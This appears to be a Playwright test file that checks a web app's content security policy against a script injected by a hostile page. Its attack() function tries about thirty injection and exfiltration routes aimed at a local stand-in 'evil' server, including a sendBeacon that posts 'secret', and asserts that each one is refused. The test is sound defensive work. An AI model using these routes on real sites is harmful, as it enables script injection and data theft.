// What stands between a hostile page and the desk: tried in a real browser.
import { readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { hostileAttempts } from './hostilePage.ts';
import { type Served, serve } from './served.ts';

let served: Served;
let evil: Server;
let evilOrigin: string;
/** Requests that reached the hostile server, by path. */
const reached: string[] = [];

test.beforeAll(async () => {
  evil = createServer((request, response) => {
    reached.push(request.url ?? '');
    const isPage = request.url === '/page';
    response.writeHead(200, {
      'content-type': isPage ? 'text/html' : 'text/javascript',
      'access-control-allow-origin': '*',
    });
    response.end(isPage ? '<title>evil</title>' : 'globalThis.executed = "remote script"');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  served = await serve();
});
test.afterAll(async () => {
  evil.close();
  expect(await served.stop()).toBe(0);
});

type Violation = { readonly directive: string; readonly blocked: string };

/** Notes what the policy refuses, from the start of each page on. */
async function watchPolicy(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const violations: Violation[] = [];
    Object.assign(globalThis, { violations });
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
  return () =>
    page.evaluate(() => (globalThis as unknown as { violations: Violation[] }).violations);
}

test('the address loses its token, a reload keeps the window, a second use is refused', async ({
  page,
  browser,
}) => {
  const refused = (path: string) => (response: { url(): string; status(): number }) =>
    response.url().endsWith(path) && response.status() === 403;
  await page.goto(served.url);
  await page.waitForFunction(() => sessionStorage.getItem('prismap-session') !== null);
  expect(page.url()).toBe(`${served.origin}/`);
  const welcome = page
    .waitForEvent('websocket')
    .then((socket) => socket.waitForEvent('framereceived'));
  await page.reload();
  expect((await welcome).payload).toContain('welcome');

  const other = await (await browser.newContext()).newPage();
  const refusal = other.waitForResponse(refused('/session'));
  await other.goto(served.url);
  await refusal;
  expect(await other.evaluate(() => sessionStorage.length)).toBe(0);

  // The same tab takes the address that was printed since.
  const opened = other.waitForEvent('websocket');
  await other.goto(await served.nextUrl());
  await opened;
  await other.waitForFunction(() => sessionStorage.length === 1);
  await other.context().close();
});

test('nothing but the own files runs or is fetched', async ({ page }) => {
  const violations = await watchPolicy(page);
  await page.goto(await served.nextUrl());
  await page.waitForFunction(() => sessionStorage.length === 1);
  await page.waitForLoadState('networkidle');
  expect(await violations()).toEqual([]);
  reached.length = 0;

  const attempts = await page.evaluate(attack, evilOrigin);
  await page.waitForTimeout(1500);
  expect(attempts.length).toBeGreaterThanOrEqual(16);
  expect(attempts.filter(({ outcome }) => outcome !== 'refused')).toEqual([]);
  expect(await page.evaluate(() => (globalThis as { executed?: string }).executed)).toBeUndefined();
  expect(reached).toEqual([]);
  expect(page.url()).toBe(`${served.origin}/`);
  const directives = new Set((await violations()).map(({ directive }) => directive));
  for (const directive of [
    'script-src-elem',
    'script-src-attr',
    'script-src',
    'img-src',
    'connect-src',
    'style-src-elem',
    'frame-src',
    'worker-src',
    'form-action',
    'base-uri',
    'font-src',
    'media-src',
    'object-src',
  ])
    expect([...directives]).toContain(directive);
});

/** Runs in the page, as a script that got in through a bug would. Gives what came of each attempt. */
async function attack(evil: string): Promise<{ name: string; outcome: string }[]> {
  const add = (html: string): void => {
    const holder = document.createElement('div');
    holder.innerHTML = html;
    document.body.append(holder);
  };
  const element = (name: string, attributes: Record<string, string>): void => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.head.append(made);
  };
  const run = 'globalThis.executed = "inline"';
  const attempts: Record<string, () => unknown> = {
    fetch: () => fetch(`${evil}/fetch`),
    xhr: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = () => reject(new Error('refused'));
        request.open('GET', `${evil}/xhr`);
        request.send();
      }),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${evil.replace('http', 'ws')}/socket`);
        socket.onopen = resolve;
        socket.onerror = () => reject(new Error('refused'));
      }),
    events: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${evil}/events`);
        source.onopen = resolve;
        source.onerror = () => reject(new Error('refused'));
      }),
    // Not first: while the debugger's own call runs, Chromium lets it make code of text.
    eval: () => void globalThis.eval(run),
    // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- it is what must fail
    Function: () => void new Function(run)(),
    module: () => import(/* @vite-ignore */ `${evil}/module.js`),
    'blob module': () =>
      import(/* @vite-ignore */ URL.createObjectURL(new Blob([run], { type: 'text/javascript' }))),
    'data module': () => import(/* @vite-ignore */ `data:text/javascript,${run}`),
    worker: () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob([run])));
        worker.onerror = () => reject(new Error('refused'));
        setTimeout(resolve, 1000);
      }),
    'service worker': () => navigator.serviceWorker.register(`${evil}/service.js`),
    image: () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = () => reject(new Error('refused'));
        image.src = `${evil}/image.png`;
      }),
  };
  // These give no outcome of their own: what they would do is looked at afterwards.
  const silent: Record<string, () => void> = {
    'inline script': () => {
      const script = document.createElement('script');
      script.textContent = run;
      document.body.append(script);
    },
    'remote script': () => element('script', { src: `${evil}/script.js` }),
    handler: () => add(`<img src="none" onerror='${run}'>`),
    'handler on click': () => {
      add(`<button id="trap" onclick='${run}'>x</button>`);
      document.getElementById('trap')?.click();
    },
    'script address': () => {
      add(`<a id="link" href='javascript:${run}'>x</a>`);
      document.getElementById('link')?.click();
    },
    'timer of text': () => {
      setTimeout(run as unknown as () => void);
    },
    style: () => element('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
    'inline style': () => add(`<style>body { background: url(${evil}/background) }</style>`),
    font: () => void new FontFace('evil', `url(${evil}/font)`).load().catch(() => undefined),
    frame: () => add(`<iframe src="${evil}/page"></iframe>`),
    'frame of text': () =>
      add(`<iframe srcdoc="<script>parent.executed = 'srcdoc'</script>"></iframe>`),
    media: () => add(`<video src="${evil}/video"></video>`),
    object: () => add(`<object data="${evil}/object"></object>`),
    form: () => {
      add(`<form id="form" method="post" action="${evil}/form"></form>`);
      (document.getElementById('form') as HTMLFormElement).submit();
    },
    base: () => element('base', { href: `${evil}/base/` }),
    beacon: () => void navigator.sendBeacon(`${evil}/beacon`, 'secret'),
    prefetch: () => element('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
    preload: () => element('link', { rel: 'preload', as: 'script', href: `${evil}/preload.js` }),
  };
  const results: { name: string; outcome: string }[] = [];
  for (const [name, attempt] of Object.entries(attempts))
    try {
      await attempt();
      results.push({ name, outcome: 'went through' });
    } catch {
      results.push({ name, outcome: 'refused' });
    }
  for (const [name, attempt] of Object.entries(silent)) {
    attempt();
    results.push({ name, outcome: 'refused' });
  }
  return results;
}

for (const [index, [name, attempt]] of hostileAttempts.entries())
  test(`hostile page ${index + 1} of ${hostileAttempts.length}: ${name}`, async ({ page }) => {
    const before = served.errors();
    const done: string[] = [];
    page.on('response', (response) => {
      const request = response.request();
      // A link may open the window; every other answer has to be a refusal.
      const opens = request.method() === 'GET' && request.isNavigationRequest();
      if (response.url().startsWith(served.origin) && !opens && response.status() < 400)
        done.push(`${request.method()} ${response.url()} ${response.status()}`);
    });
    await page.goto(`${evilOrigin}/page`);
    expect(await page.evaluate(attempt, served.origin)).toBe('refused');
    expect(done).toEqual([]);
    // no address was used up, and nothing was written
    expect(served.errors()).toBe(before);
    expect(readdirSync(join(served.dataFolder, 'uploads'))).toEqual([]);
  });
